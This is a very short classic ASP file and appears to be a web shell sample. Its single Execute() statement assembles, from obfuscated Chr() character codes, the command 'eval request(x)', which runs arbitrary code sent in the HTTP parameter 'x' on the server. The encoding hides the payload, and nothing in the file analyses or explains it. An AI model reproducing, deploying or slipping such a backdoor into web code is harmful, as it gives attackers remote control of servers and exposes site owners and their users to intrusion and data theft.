<%
Execute(Chr(101)&Chr(118)&Chr(97)&Chr(108)&Chr(32)&Chr(114)&Chr(101)&Chr(113)&Chr(117)&Chr(101)&Chr(115)&Chr(116)&Chr(40)&Chr(120)&Chr(41))
%>
